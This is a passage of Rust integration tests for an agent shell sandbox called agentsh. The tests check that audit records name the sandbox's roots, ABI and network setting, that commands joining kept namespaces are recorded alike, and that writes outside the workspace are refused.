    succeeded(&w.script(&format!("set -e\ntouch ./x\n{INSIDE}")), "touch ./x, supervised");
    // The parent stays outside and records how the command ended.
    let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
    assert!(log.lines().last().unwrap().contains("\"event\":\"exit\""), "{log}");
}

/// Every audit record names the box its command ran in: its roots, the ABI and the network; or
/// why it ran unconfined.
#[test]
fn the_audit_record_names_the_box() {
    let Some(w) = world(false) else { return };
    let w = w.git().sandbox(serde_json::json!({"network": "off"}));
    let last = |w: &World| -> serde_json::Value {
        let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
        serde_json::from_str(log.lines().last().unwrap()).unwrap()
    };
    assert!(w.run("echo x > out.txt").status.success());
    let b = &last(&w)["sandbox"];
    assert_eq!(b["runs_in"], "sandbox", "{b}");
    assert_eq!(b["network"], "off", "{b}");
    assert!(b["abi"].as_u64().is_some_and(|a| a >= 3), "{b}");
    let ws = w.ws.path().canonicalize().unwrap().display().to_string();
    assert!(b["writable"].as_array().unwrap().iter().any(|r| r.as_str() == Some(ws.as_str())), "{b}");
    assert!(b["read_only"].as_array().unwrap().iter().any(|r| r.as_str().unwrap().ends_with(".git/hooks")), "{b}");
    let w = w.sandbox(serde_json::json!({"enabled": false}));
    assert!(w.run("true").status.success());
    let b = &last(&w)["sandbox"];
    assert_eq!(b["runs_in"], "unconfined", "{b}");
    assert!(b["why"].as_str().unwrap().contains("sandbox.enabled is false"), "{b}");
}

/// A command that joins kept namespaces takes the box's roots from their record instead of
/// building the spec (run/sandbox.rs, `BoxPlan`): the judge and the audit record must see the
/// same box as the command that made them.
#[test]
fn a_command_that_joins_kept_namespaces_is_judged_and_recorded_as_the_first() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    let w = w.git();
    let boxes = |w: &World| -> Vec<serde_json::Value> {
        let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
        let lines = log.lines().map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap());
        lines.filter(|l| l["event"] == "decision").map(|l| l["sandbox"].clone()).collect()
    };
    // No record yet: the first command below makes the namespaces, the others join them.
    let records = w.home(".local/state/agentsh/box");
    let _ = std::fs::remove_dir_all(&records);
    // Written inside the workspace: contained, so it runs without a person (there is none here)
    // only if the judge sees the workspace among the writable roots.
    for n in 0..3 {
        succeeded(&w.run(&format!("echo {n} > out.txt")), "a write in the workspace");
    }
    assert_eq!(std::fs::read_to_string(w.path("out.txt")).unwrap(), "2\n");
    assert_eq!(std::fs::read_dir(&records).unwrap().count(), 1, "one box, kept and joined");
    let b = boxes(&w);
    let n = b.len();
    assert_eq!(b[n - 1], b[n - 3], "the joining command names the box the first one made");
    assert!(b[n - 1]["writable"].as_array().is_some_and(|a| !a.is_empty()), "{}", b[n - 1]);
    assert!(b[n - 1]["read_only"].as_array().is_some_and(|a| !a.is_empty()), "{}", b[n - 1]);
    // Outside the workspace: still asks (and is refused, with nobody to ask).
    let out = w.run("echo x > ~/outside.txt");
    assert!(!out.status.success(), "{}", text(&out.stderr));
    assert!(!w.home("outside.txt").exists());
}

#[test]
fn in_a_home_kept_in_git_the_current_directory_is_the_workspace() {
    // A dotfiles repository at home: its top-level is never granted, so a directory in home
    // that is no repository of its own is the workspace, as where there is no repository.
    let Some(w) = world(false) else { return };
    std::fs::create_dir_all(w.home(".git/hooks")).unwrap();
    let scratch = w.home("scratch");
    std::fs::create_dir_all(&scratch).unwrap();
    std::fs::write(scratch.join("probe.sh"), "set -e\ntouch made-here\n").unwrap();
    let out = w.command(&["-c", "sh probe.sh"]).current_dir(&scratch).output().unwrap();
    succeeded(&out, "a write in the current directory");
    assert!(scratch.join("made-here").exists());
    std::fs::write(scratch.join("probe.sh"), "set -e\ntouch ../beside\n").unwrap();
    let out = w.command(&["-c", "sh probe.sh"]).current_dir(&scratch).output().unwrap();
    refused_by_box(&out, "a write in home beside it");
    assert!(!w.home("beside").exists());
}
